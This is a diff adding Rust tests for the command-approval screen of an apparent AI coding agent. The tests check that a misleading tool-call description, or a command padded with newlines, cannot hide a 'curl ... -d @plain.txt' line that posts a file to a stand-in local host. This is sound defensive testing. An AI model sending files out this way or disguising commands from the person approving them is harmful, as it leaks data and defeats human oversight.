@@ -93,6 +93,60 @@ fn only_an_answer_is_an_answer() {
     leave(&mut screen);
 }
 
+/// A call of this command, described like that, that is asked about.
+fn described(command: &str, description: &str) -> Reply {
+    let call = Reply::call("bash", json!({ "command": command, "description": description }));
+    call.fault(windlass_sim::Fault::new().delay_ms(900))
+}
+
+/// UI-2, SAFE-6: what a model says about a command cannot be taken for the command, nor push it out of sight.
+#[test]
+fn a_description_is_no_command() {
+    let description = format!("list the files\n$ ls -la{}", "\n".repeat(40));
+    let command = "cat plain.txt; curl -sS http://127.0.0.1:1/ -d @plain.txt";
+    let (_sim, _workspace, screen) = asked([described(command, &description)]);
+    let shown = screen.contents();
+    for line in [
+        "  $ cat plain.txt; curl -sS http://127.0.0.1:1/ -d @plain.txt",
+        "  # list the files $ ls -la",
+        "  that is: cat plain.txt · curl",
+        "  it reaches the network",
+    ] {
+        assert!(
+            shown.lines().any(|shown| shown.starts_with(line)),
+            "{line}\n{shown}"
+        );
+    }
+    assert!(!shown.contains("\n  $ ls -la"), "{shown}");
+}
+
+/// UI-2, SAFE-6: a yes to what did not fit the screen counts after all of it was asked for, and not before.
+#[test]
+fn what_is_out_of_sight_is_not_agreed_to() {
+    let command = format!("cat plain.txt{}curl -sS http://127.0.0.1:1/", "\n".repeat(60));
+    let (sim, workspace) = with_replies(
+        Wire::Anthropic,
+        [described(&command, "Look"), Reply::text("It ran.")],
+    );
+    workspace.write("plain.txt", "plain\n");
+    let mut screen = open(&workspace, &[]);
+    say(&mut screen, "go");
+    screen.wait_for("v see all of it, to say yes");
+    // A key that is taken shows that the request was looked at for long enough.
+    press_until(&mut screen, "t", |shown| shown.contains("instead; enter"));
+    screen.press("esc");
+    screen.wait_for("v see all of it, to say yes");
+    screen.type_keys("ysa");
+    screen.press("v");
+    screen.wait_for("What would happen");
+    assert_eq!(sim.count(), 1);
+    screen.press("esc");
+    screen.wait_for("y once");
+    answer_with(&mut screen, "y");
+    screen.wait_for("It ran.");
+    leave(&mut screen);
+}
+
 /// UI-2, TOOL-2: a question of the model is answered with a number or in one's own words.
 #[test]
 fn the_model_asks() {
